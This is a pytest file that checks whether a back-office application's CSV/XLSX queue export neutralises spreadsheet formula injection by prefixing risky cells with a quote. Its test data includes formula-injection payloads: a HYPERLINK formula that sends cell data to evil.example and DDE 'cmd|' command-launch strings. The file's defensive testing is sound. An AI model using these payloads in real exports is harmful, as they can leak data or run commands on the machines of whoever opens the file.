"""CSV and spreadsheet exports neutralised (issue 15, item 4).

Before: a product named `=HYPERLINK(…)`, `+cmd|…`, `-2+3` or `@SUM(…)` reached the queue
export's cell as written, and a spreadsheet ran it as a formula. Now every cell of every
export goes through `exports.cell` (OWASP, CSV Injection): a text starting with `=`, `+`,
`-`, `@`, tab or carriage return is prefixed with a single quote. The queue is the
application's only export, streamed (/instruction/file.csv) or written by the export job
(CSV or XLSX, backoffice/queues/export.py: both go through `export.values`, which calls
`exports.row`; the job's spreadsheet is checked in tests/reviewer/test_exports_job.py).
`grep -rn "csv\\|openpyxl"` finds no other writer (elsewhere openpyxl only reads
référentiels)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from backoffice import exports
from backoffice.db import db, utcnow
from tests.factories import ProductFactory
from tests.reviewer.conftest import desk  # noqa: F401 - the workspace fixture

PAYLOADS = {
    "hyperlink": '=HYPERLINK("https://evil.example/?x="&A2;"Ouvrir")',
    "dde_plus": "+cmd|' /C calc'!A0",
    "arithmetic_minus": "-2+3",
    "at_function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "leading_tab": "\t=1+1",
    "leading_carriage_return": "\r=1+1",
}


def export(desk) -> list[list[str]]:  # noqa: F811
    response = desk.client.get("/instruction/file.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def row_of(rows: list[list[str]], reference: str) -> dict[str, str]:
    header = rows[0]
    return next(dict(zip(header, r, strict=True)) for r in rows[1:] if r[0] == reference)


@pytest.mark.parametrize("payload", [
    *(pytest.param(v, id=k) for k, v in PAYLOADS.items()),
    pytest.param("\x00=1+1", id="leading_nul"),  # ASVS 5.0 V1.2.10 (no database column keeps it)
])
def test_cell_prefixes_every_formula_trigger(payload: str) -> None:
    assert exports.cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Careoptim - v0.1 - 883", "", " =1+1", "Éditeur =1",
                                   "'déjà cité", 3, -3, 2.5, None])
def test_cell_leaves_everything_else_as_it_is(value: object) -> None:
    assert exports.cell(value) is value


@pytest.mark.parametrize("name", ["hyperlink", "dde_plus", "arithmetic_minus", "at_function"])
def test_a_product_named_as_a_formula_through_the_api_is_inert_in_the_queue_export(
        desk, name: str) -> None:  # noqa: F811
    """The vendor's own way in: the product is created through the API."""
    payload = PAYLOADS[name]
    response = desk.api.post("/products", {"name": payload, "version": "v1", "type": "socle",
                                           "responsable": "Jeanne Martin"})
    assert response.status_code == 201, response.json
    from backoffice.models import Product

    product = db.get(Product, response.json["id"])
    candidature = desk.candidature(product=product)
    cells = row_of(export(desk), candidature.reference)
    assert cells["Produit"] == f"'{payload} - v1 - {product.number}"


@pytest.mark.parametrize("payload", [pytest.param(v, id=k) for k, v in PAYLOADS.items()])
def test_every_text_column_is_neutralised(desk, payload: str) -> None:  # noqa: F811
    """Stored by other ways (the organisation's name comes from the administration, rows
    may predate input checks): the cell is neutralised whatever the column."""
    desk.organisation.name = payload
    product = ProductFactory(organisation=desk.organisation, name=payload)
    desk.me.name = payload  # the "Attribuée à" column
    db.commit()
    candidature = desk.candidature(product=product)
    from backoffice.workflow import forms

    forms.prendre(candidature, "recevabilite", actor=desk.me)
    db.commit()
    cells = row_of(export(desk), candidature.reference)
    assert cells["Produit"].startswith("'" + payload)
    assert cells["Organisation"] == "'" + payload
    assert cells["Attribuée à"] == "'" + payload
    for column, value in cells.items():  # and no other cell starts a formula
        assert value[:1] not in "=+-@\t\r" or value == "", (column, value)


def test_numbers_we_compute_stay_numbers(desk) -> None:  # noqa: F811
    """A deadline passed three days ago is -3 days left: a number, not a quoted text."""
    candidature = desk.candidature()
    candidature.current.due_at = utcnow() - timedelta(days=3, hours=1)
    db.commit()
    cells = row_of(export(desk), candidature.reference)
    assert cells["Jours restants"] in ("-3", "-4")
